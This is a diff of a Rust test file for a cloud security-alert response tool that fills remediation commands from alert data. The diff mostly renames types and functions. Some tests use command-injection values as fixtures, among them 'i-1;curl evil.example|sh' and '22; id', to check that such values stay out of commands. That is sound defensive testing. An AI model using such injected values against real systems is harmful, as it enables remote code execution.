@@ -6,7 +6,7 @@ use crate::fixture;
 fn template(command: &str) -> Vec<Arc<ActionTemplate>> {
     vec![Arc::new(ActionTemplate {
         id: "stop".into(),
-        provider: Some(Provider::Aws),
+        provider: Some(CloudProvider::Aws),
         text: "Stop {instance}".into(),
         command: Some(command.into()),
         precondition: None,
@@ -20,7 +20,7 @@ fn choice(value: Option<&str>) -> ActionChoice {
     ActionChoice {
         id: "stop".into(),
         indicators: value
-            .map(|value| Indicator::new(IndicatorKind::Instance, value, Role::Target))
+            .map(|value| Indicator::new(IndicatorKind::Instance, value, IndicatorRole::Target))
             .into_iter()
             .collect(),
     }
@@ -29,11 +29,11 @@ fn choice(value: Option<&str>) -> ActionChoice {
 #[test]
 fn fills_in_from_the_alert() {
     let alert = fixture::alert();
-    let action = fill(
+    let action = fill_action(
         &template("aws ec2 stop-instances --instance-ids {instance} --region {region}"),
         &choice(None),
         &alert,
-        &Known::default(),
+        &ActionContext::default(),
     );
     assert_eq!(
         action.and_then(|action| action.command).as_deref(),
@@ -44,11 +44,11 @@ fn fills_in_from_the_alert() {
 #[test]
 fn a_brace_as_such_is_doubled() {
     let braces = "put {{\"of\":{{\"id\":\"{instance}\"}}}}";
-    let action = fill(
+    let action = fill_action(
         &template(braces),
         &choice(None),
         &fixture::alert(),
-        &Known::default(),
+        &ActionContext::default(),
     );
     assert_eq!(
         action.and_then(|action| action.command).as_deref(),
@@ -59,11 +59,11 @@ fn a_brace_as_such_is_doubled() {
 #[test]
 fn a05_a_value_the_case_does_not_know_never_reaches_a_command() {
     let alert = fixture::alert();
-    let action = fill(
+    let action = fill_action(
         &template("stop {instance}"),
         &choice(Some("i-999")),
         &alert,
-        &Known::default(),
+        &ActionContext::default(),
     );
     assert_eq!(
         action.and_then(|action| action.command).as_deref(),
@@ -77,13 +77,13 @@ fn a05_a_value_with_shell_characters_leaves_the_command_out() {
     alert.indicators = vec![Indicator::new(
         IndicatorKind::Instance,
         "i-1;curl evil.example|sh",
-        Role::Target,
+        IndicatorRole::Target,
     )];
-    let action = fill(
+    let action = fill_action(
         &template("stop {instance}"),
         &choice(None),
         &alert,
-        &Known::default(),
+        &ActionContext::default(),
     );
     assert_eq!(action.map(|action| action.command), Some(None));
 }
@@ -93,8 +93,8 @@ fn command(template: &str, principal: &str, told: Option<(PrincipalKind, &str)>)
     let mut alert = fixture::alert();
     alert.account = Some("123456789012".into());
     alert.indicators = vec![
-        Indicator::new(IndicatorKind::Principal, principal, Role::Actor),
-        Indicator::new(IndicatorKind::Instance, "i-1", Role::Target),
+        Indicator::new(IndicatorKind::Principal, principal, IndicatorRole::Actor),
+        Indicator::new(IndicatorKind::Instance, "i-1", IndicatorRole::Target),
     ];
     let told = told.map(|(kind, id)| Principal {
         name: principal.into(),
@@ -102,11 +102,11 @@ fn command(template: &str, principal: &str, told: Option<(PrincipalKind, &str)>)
         id: Some(id.into()),
     });
     alert.principals = told.into_iter().collect();
-    let action = fill(
+    let action = fill_action(
         &self::template(template),
         &choice(None),
         &alert,
-        &Known::default(),
+        &ActionContext::default(),
     );
     action
         .and_then(|action| action.command)
@@ -185,21 +185,21 @@ fn a_role_that_has_a_bare_name_is_no_user_and_a_user_no_role() {
 fn where_no_feed_tells_what_a_principal_is_the_kind_of_its_keys_does() {
     let named = |keys: &[&str]| {
         let mut alert = fixture::alert();
-        let principal = Indicator::new(IndicatorKind::Principal, "deployer", Role::Actor);
+        let principal = Indicator::new(IndicatorKind::Principal, "deployer", IndicatorRole::Actor);
         let keys = keys
             .iter()
-            .map(|key| Indicator::new(IndicatorKind::AccessKey, *key, Role::Actor));
+            .map(|key| Indicator::new(IndicatorKind::AccessKey, *key, IndicatorRole::Actor));
         alert.indicators = keys.chain([principal]).collect();
         let value = |name: &str| {
             let template = ActionTemplate {
                 text: format!("{{{name}}}"),
                 ..ActionTemplate::clone(&template("")[0])
             };
-            fill(
+            fill_action(
                 &[Arc::new(template)],
                 &choice(None),
                 &alert,
-                &Known::default(),
+                &ActionContext::default(),
             )
             .map_or_else(|| "none".to_owned(), |action| action.text)
         };
@@ -226,9 +226,14 @@ fn a_service_account_is_no_person() {
 #[test]
 fn an_action_of_another_cloud_is_not_offered() {
     let mut alert = fixture::alert();
-    alert.provider = Provider::Gcp;
+    alert.provider = CloudProvider::Gcp;
     assert_eq!(
-        fill(&template("x"), &choice(None), &alert, &Known::default()),
+        fill_action(
+            &template("x"),
+            &choice(None),
+            &alert,
+            &ActionContext::default()
+        ),
         None
     );
 }
@@ -239,11 +244,11 @@ fn filled(template: &ActionTemplate, alert: &Alert, chosen: &[Indicator]) -> Opt
         id: template.id.clone(),
         indicators: chosen.to_vec(),
     };
-    fill(
+    fill_action(
         &[Arc::new(template.clone())],
         &choice,
         alert,
-        &Known::default(),
+        &ActionContext::default(),
     )
 }
 
@@ -251,10 +256,10 @@ fn of_object(key: &str, inside: &str) -> Alert {
     let arn = format!("arn:aws:s3:::uploads/{key}");
     let mut alert = fixture::alert();
     alert.indicators = vec![
-        Indicator::new(IndicatorKind::Arn, arn, Role::Related),
-        Indicator::new(IndicatorKind::Bucket, "uploads", Role::Target),
-        Indicator::new(IndicatorKind::File, key, Role::Related),
-        Indicator::new(IndicatorKind::File, inside, Role::Related),
+        Indicator::new(IndicatorKind::Arn, arn, IndicatorRole::Related),
+        Indicator::new(IndicatorKind::Bucket, "uploads", IndicatorRole::Target),
+        Indicator::new(IndicatorKind::File, key, IndicatorRole::Related),
+        Indicator::new(IndicatorKind::File, inside, IndicatorRole::Related),
     ];
     alert.indicators.sort();
     alert
@@ -292,7 +297,7 @@ fn a05_a_command_that_cannot_say_what_must_be_true_first_is_left_out() {
     };
     let told = |process: &str| {
         let mut alert = fixture::alert();
-        let process = Indicator::new(IndicatorKind::Process, process, Role::Related);
+        let process = Indicator::new(IndicatorKind::Process, process, IndicatorRole::Related);
         alert.indicators.push(process);
         let action = filled(&template, &alert, &[]).unwrap();
         (action.command, action.precondition)
@@ -330,7 +335,7 @@ fn a_task_is_no_pod_and_a_pod_no_task() {
         ["pod {workload}", "task {task}"].map(|text| Some(filled(&of(text), alert, &[])?.text))
     };
     let mut alert = fixture::alert();
-    let container = Indicator::new(IndicatorKind::Container, "checkout", Role::Target);
+    let container = Indicator::new(IndicatorKind::Container, "checkout", IndicatorRole::Target);
     alert.indicators.push(container);
     assert_eq!(advised(&alert), [Some("pod checkout".into()), None]);
     for kind in ["ECSTask", "ECS_TASK", "AwsEcsTask"] {
@@ -353,10 +358,14 @@ fn block(what: &str) -> ActionTemplate {
 #[test]
 fn a05_a_chosen_address_that_only_stands_beside_is_none_to_block() {
     let mut alert = fixture::alert();
-    let beside = Indicator::new(IndicatorKind::Ip, "203.0.113.77", Role::Related);
-    let shop = Indicator::new(IndicatorKind::Domain, "shop.example.com", Role::Related);
-    let nobody = Indicator::new(IndicatorKind::Ip, "203.0.113.200", Role::Related);
-    let actor = Indicator::new(IndicatorKind::Ip, "198.51.100.7", Role::Related);
+    let beside = Indicator::new(IndicatorKind::Ip, "203.0.113.77", IndicatorRole::Related);
+    let shop = Indicator::new(
+        IndicatorKind::Domain,
+        "shop.example.com",
+        IndicatorRole::Related,
+    );
+    let nobody = Indicator::new(IndicatorKind::Ip, "203.0.113.200", IndicatorRole::Related);
+    let actor = Indicator::new(IndicatorKind::Ip, "198.51.100.7", IndicatorRole::Related);
     alert.indicators.extend([beside.clone(), shop.clone()]);
     let of =
         |chosen: &[Indicator], what| filled(&block(what), &alert, chosen).map(|action| action.text);
@@ -379,28 +388,28 @@ fn what_is_ours_is_never_blocked_and_what_a_list_knows_as_bad_may_be() {
     let mut alert = fixture::alert();
     let ip = |value, role| Indicator::new(IndicatorKind::Ip, value, role);
     alert.indicators = vec![
-        ip("192.0.2.193", Role::Actor),
-        ip("203.0.113.9", Role::Actor),
-        ip("203.0.113.77", Role::Related),
+        ip("192.0.2.193", IndicatorRole::Actor),
+        ip("203.0.113.9", IndicatorRole::Actor),
+        ip("203.0.113.77", IndicatorRole::Related),
     ];
     let of = |template: &ActionTemplate, chosen: &[Indicator], ours: &[&str]| {
         let standing = |value: &str| match value {
-            "203.0.113.77" => Some(Standing::Bad),
-            _ => ours.contains(&value).then_some(Standing::Ours),
+            "203.0.113.77" => Some(Reputation::Malicious),
+            _ => ours.contains(&value).then_some(Reputation::Own),
         };
-        let known = Known {
-            standing: &standing,
-            ..Known::default()
+        let known = ActionContext {
+            reputation: &standing,
+            ..ActionContext::default()
         };
         let choice = ActionChoice {
             id: template.id.clone(),
             indicators: chosen.to_vec(),
         };
-        let action = fill(&[Arc::new(template.clone())], &choice, &alert, &known);
+        let action = fill_action(&[Arc::new(template.clone())], &choice, &alert, &known);
         action.map_or_else(|| "none".to_owned(), |action| action.text)
     };
-    let first = ip("192.0.2.193", Role::Actor);
-    let bad = ip("203.0.113.77", Role::Related);
+    let first = ip("192.0.2.193", IndicatorRole::Actor);
+    let bad = ip("203.0.113.77", IndicatorRole::Related);
     let ask = ActionTemplate {
         id: "ask".into(),
         text: "Ask who owns {ip}".into(),
@@ -426,12 +435,12 @@ fn block_names_far_ends_and_never_a_private_address() {
         action.map_or_else(|| "none".to_owned(), |action| action.text)
     };
     let (host, far) = (
-        one("10.0.5.33", Role::Target),
-        one("203.0.113.9", Role::Remote),
+        one("10.0.5.33", IndicatorRole::Target),
+        one("203.0.113.9", IndicatorRole::Remote),
     );
-    let public = one("203.0.113.20", Role::Target);
-    let inside = one("10.0.0.9", Role::Actor);
-    let caller = one("198.51.100.7", Role::Actor);
+    let public = one("203.0.113.20", IndicatorRole::Target);
+    let inside = one("10.0.0.9", IndicatorRole::Actor);
+    let caller = one("198.51.100.7", IndicatorRole::Actor);
     let all = |one: &Indicator| vec![one.clone()];
     for own in [&host, &public, &inside] {
         assert_eq!(of(&all(own), &[], None), "none");
@@ -451,7 +460,7 @@ fn block_names_far_ends_and_never_a_private_address() {
     );
 }
 
-fn told(alert: &mut Alert, kind: DetailKind, value: &str, about: Option<&str>) {
+fn add_detail(alert: &mut Alert, kind: DetailKind, value: &str, about: Option<&str>) {
     alert.details.push(nightshift_alert::Detail {
         kind,
         value: value.into(),
@@ -463,17 +472,22 @@ fn told(alert: &mut Alert, kind: DetailKind, value: &str, about: Option<&str>) {
 fn a_detail_is_filled_in_where_one_is_told() {
     let text = "revoke {security_group|\"$SECURITY_GROUP\"} --port {local_port|\"$PORT\"}";
     let command = |alert: &Alert| {
-        let action = fill(&template(text), &choice(None), alert, &Known::default());
+        let action = fill_action(
+            &template(text),
+            &choice(None),
+            alert,
+            &ActionContext::default(),
+        );
         action.and_then(|action| action.command).unwrap()
     };
     let mut alert = fixture::alert();
     insta::assert_snapshot!(command(&alert), @r#"revoke "$SECURITY_GROUP" --port "$PORT""#);
-    told(&mut alert, DetailKind::SecurityGroup, "web", None);
-    told(&mut alert, DetailKind::SecurityGroup, "sg-0aaa", None);
-    told(&mut alert, DetailKind::LocalPort, "22", None);
+    add_detail(&mut alert, DetailKind::SecurityGroup, "web", None);
+    add_detail(&mut alert, DetailKind::SecurityGroup, "sg-0aaa", None);
+    add_detail(&mut alert, DetailKind::LocalPort, "22", None);
     insta::assert_snapshot!(command(&alert), @"revoke sg-0aaa --port 22");
-    told(&mut alert, DetailKind::SecurityGroup, "sg-0bbb;id", None);
-    told(&mut alert, DetailKind::LocalPort, "22; id", None);
+    add_detail(&mut alert, DetailKind::SecurityGroup, "sg-0bbb;id", None);
+    add_detail(&mut alert, DetailKind::LocalPort, "22; id", None);
     insta::assert_snapshot!(command(&alert), @r#"revoke "$SECURITY_GROUP" --port 22"#);
 }
 
@@ -486,26 +500,26 @@ fn of_two_addresses_that_which_got_in_is_blocked() {
             id: "block-source-ip".into(),
             indicators: chosen,
         };
-        let action = fill(&templates, &choice, alert, &Known::default());
+        let action = fill_action(&templates, &choice, alert, &ActionContext::default());
         action.and_then(|action| action.command).unwrap()
     };
     let mut alert = fixture::alert();
-    let second = Indicator::new(IndicatorKind::Ip, "203.0.113.71", Role::Actor);
+    let second = Indicator::new(IndicatorKind::Ip, "203.0.113.71", IndicatorRole::Actor);
     alert.indicators.push(second);
     assert_eq!(block(&alert, Vec::new()), "block 198.51.100.7");
-    told(
+    add_detail(
         &mut alert,
         DetailKind::AuthResult,
         "FAIL",
         Some("198.51.100.7"),
     );
-    told(
+    add_detail(
         &mut alert,
         DetailKind::AuthResult,
         "SUCCESS",
         Some("203.0.113.71"),
     );
     assert_eq!(block(&alert, Vec::new()), "block 203.0.113.71");
-    let both = alert.with_role(Role::Actor).cloned().collect();
+    let both = alert.with_role(IndicatorRole::Actor).cloned().collect();
     assert_eq!(block(&alert, both), "block 203.0.113.71");
 }
